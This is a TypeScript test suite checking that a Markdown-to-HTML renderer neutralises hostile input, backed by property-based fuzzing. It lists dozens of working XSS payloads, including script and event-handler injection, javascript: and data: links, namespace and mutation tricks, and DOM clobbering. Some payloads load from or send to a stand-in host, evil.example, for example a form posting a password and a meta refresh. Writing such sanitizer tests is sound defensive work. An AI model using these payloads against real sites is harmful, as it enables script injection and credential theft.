import assert from "node:assert/strict";
import { describe, test } from "node:test";
import fc from "fast-check";
import { renderMarkdown } from "#lib/markup/render-markdown.ts";
import { assertInert } from "./inert-html.ts";

const RESOLVER = { link: (path: string) => `/chart/${path}`, image: (path: string) => `/chart/${path}` };

function render(source: string): string {
  return renderMarkdown(source, RESOLVER).html;
}

/** Each tries to run something, ask another host, take over an id of the page, or break out of its place. */
const ATTACKS: Record<string, string> = {
  script: "<script>alert(1)</script>",
  "script in upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "script split by a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "script after a slash": "<script/x>alert(1)</script>",
  "event handler": '<img src=x onerror=alert(1)><p onclick="alert(1)">x</p><details ontoggle=alert(1) open>',
  "event handler after a slash": "<img/src=x/onerror=alert(1)>",
  svg: "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
  "svg with a style that holds an image": "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "math and svg namespaces":
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
  "math link": '<math href="javascript:alert(1)">x</math>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "style element": "<style>body{background:url(//evil.example)}</style>",
  "style attribute": '<p style="background:url(//evil.example);width:expression(alert(1))">x</p>',
  "meta refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
  base: '<base href="//evil.example/">',
  link: '<link rel=stylesheet href="//evil.example/x.css">',
  form: '<form action="//evil.example"><input name=password autofocus><button formaction="javascript:alert(1)">Sign in</button></form>',
  iframe: '<iframe src="//evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  "object and embed": '<object data="data:text/html,x"><embed src="//evil.example">',
  "video and audio": '<video src="//evil.example/x" poster="//evil.example/y" autoplay></video><audio src=x>',
  srcset:
    '<img srcset="//evil.example/a 1x" src="img/a.png"><picture><source srcset="//evil.example/b"></picture>',
  background: '<table background="//evil.example"><tr><td background="//evil.example">x</td></tr></table>',
  "javascript link": "[x](javascript:alert(1)) <a href='javascript:alert(1)'>x</a>",
  "javascript link with entities":
    "<a href='&#106;avascript&colon;alert(1)'>x</a> [x](&#x6A;avascript:alert(1))",
  "javascript link with a tab and a line end":
    "<a href='java\tscript:alert(1)'>x</a><a href='java&NewLine;script:alert(1)'>y</a>",
  "javascript link behind control characters":
    "<a href='\u0001\u000bjavascript:alert(1)'>x</a><a href=' &#1; javascript:alert(1)'>y</a>",
  "vbscript, file and blob":
    "<a href='vbscript:x'>a</a><a href='file:///etc/passwd'>b</a><a href='blob:x'>c</a>",
  "data link":
    "<a href='data:text/html,<script>alert(1)</script>'>x</a> [y](data:text/html;base64,PHNjcmlwdD4=)",
  "data picture": "![x](data:image/svg+xml;base64,PHN2Zz4=) <img src='data:image/png;base64,AAAA'>",
  "reference to javascript": "[x]\n\n[x]: javascript:alert(1)",
  "autolink to javascript": "<javascript:alert(1)>",
  "clobbered names":
    "<a id=main name=location>x</a><p id=cookie>y</p><img name=forms src=img/a.png><h1 id=__proto__>z</h1>",
  "heading that clobbers": "# main\n\n# constructor\n\n# __proto__",
  "unclosed elements": "<div><section><b><i><details><summary><pre><blockquote>",
  "unclosed raw text": "<textarea>\n\n<title>\n\n<xmp>\n\n<plaintext>\n\nafter",
  "unclosed comment": "before\n\n<!-- \n\nafter",
  "end tags": "</div></div></main></body></html></section></article>x",
  comment: "<!--><img src=x onerror=alert(1)>--> <!--!> <!-- --!><img src=x onerror=alert(1)>",
  CDATA: "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "processing instruction": "<?xml version='1.0'?><?php echo 1 ?><!DOCTYPE html><!ELEMENT x>",
  "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "attribute that closes": `<p title='"><img src=x onerror=alert(1)>'>x</p>`,
  "attribute with backticks": "<p title=``onmouseover=alert(1)>x</p>",
  "markdown in html in markdown":
    "<div>\n\n[x](javascript:alert(1))\n\n<img src=x onerror=alert(1)>\n\n</div>",
  "html in link text": "[<img src=x onerror=alert(1)>](https://a.example 'a\"onclick=alert(1)')",
  "html in code": "`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```",
  "language of a code block": '```"><img/src=x/onerror=alert(1)>\nx\n```',
  "html in an alert, a task and a footnote":
    "> [!NOTE]\n> <b onclick=x>y\n\n- [x] <svg onload=x>\n\na[^1]\n\n[^1]: <i onclick=x>z",
  "list item that ends the page's element": "<ul><li><div><li>x</li></div></li></ul>",
  "table that ends the page's element": "<table><div><table></table></div></table>",
  "row in a cell": "<table><tr><td><div><tr><td>x</td></tr></div></td></tr></table>",
  "definition in a definition": "<dl><dd><div><dt>x</dt></div></dd></dl>",
  "link in a link": "<a href='https://a.example'><b><a href='https://b.example'>x</a></b></a>",
  template: "<template><img src=x onerror=alert(1)></template>",
  "element that is dropped": "<x-dropped onclick=x>y</x-dropped><li>z</li>",
  "custom element and is": "<x-y is=z>a</x-y><p is=x-y>b</p>",
  "NUL bytes": "<scr\0ipt>alert(1)</scr\0ipt><img src=x one\0rror=alert(1)>",
};

describe("a hostile text ends inert", () => {
  for (const [name, source] of Object.entries(ATTACKS)) {
    test(name, () => {
      assertInert(render(source));
      // Once more within Markdown that has a structure of its own.
      assertInert(
        render(`# Title\n\n- one\n\n  ${source}\n\n| a |\n|---|\n| ${source.replaceAll("\n", " ")} |\n\nend`),
      );
    });
  }

  test("and so do pieces of them in any order", () => {
    const pieces = Object.values(ATTACKS).flatMap((attack) => attack.match(/<[^<>]*>|[^<]+/g) ?? []);
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...pieces, "\n", "\n\n", "> ", "- ", "`"), { maxLength: 25 }),
        (parts) => assertInert(render(parts.join(""))),
      ),
      { numRuns: 400 },
    );
  });
});

test("a text cannot hide what follows it", () => {
  assert.match(render(`${ATTACKS["unclosed raw text"]}`), /after/);
  assert.match(render(`${ATTACKS["unclosed elements"]}\n\nafter`), /after/);
});

test("links that run something keep their words", () => {
  assert.match(render("<a href='javascript:alert(1)'>words</a>"), /<p>words<\/p>/);
});
